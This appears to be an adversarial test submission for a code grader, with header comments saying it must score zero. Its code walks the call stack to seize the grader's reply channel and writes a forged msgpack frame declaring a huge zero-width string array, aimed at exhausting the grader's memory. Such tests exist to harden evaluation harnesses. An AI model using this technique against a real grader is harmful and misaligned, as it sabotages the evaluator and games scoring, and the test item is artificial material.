# class: 53 and 41, the memory of the grader's own process
# tries: send an array of empty texts: nothing on the wire, one gigabyte in memory
# must get: 0 points
# control: custom: wire_no_width
import os
import struct
import sys

import msgspec


def wire():
    """Find the object by which this process answers the grader, and the number of the question."""
    frame = sys._getframe()
    while frame := frame.f_back:
        if "frame" in frame.f_locals and hasattr(frame.f_locals.get("self"), "channel"):
            return frame.f_locals["self"].channel, frame.f_locals["frame"][1]
    return None, 0


def send(channel, frame):
    body = msgspec.msgpack.encode(frame)
    data = struct.pack("<IB3x", len(body), 0) + body
    os.set_blocking(channel.fileno(), True)
    while data:
        data = data[os.write(channel.fileno(), data) :]


def answers(number):
    return [[1, number, [[7, 0, "<U0", [1 << 14, 1 << 14], "F", b""], []], [], []]]


def keys(numbers):
    channel, number = wire()
    send(channel, answers(number)[0])
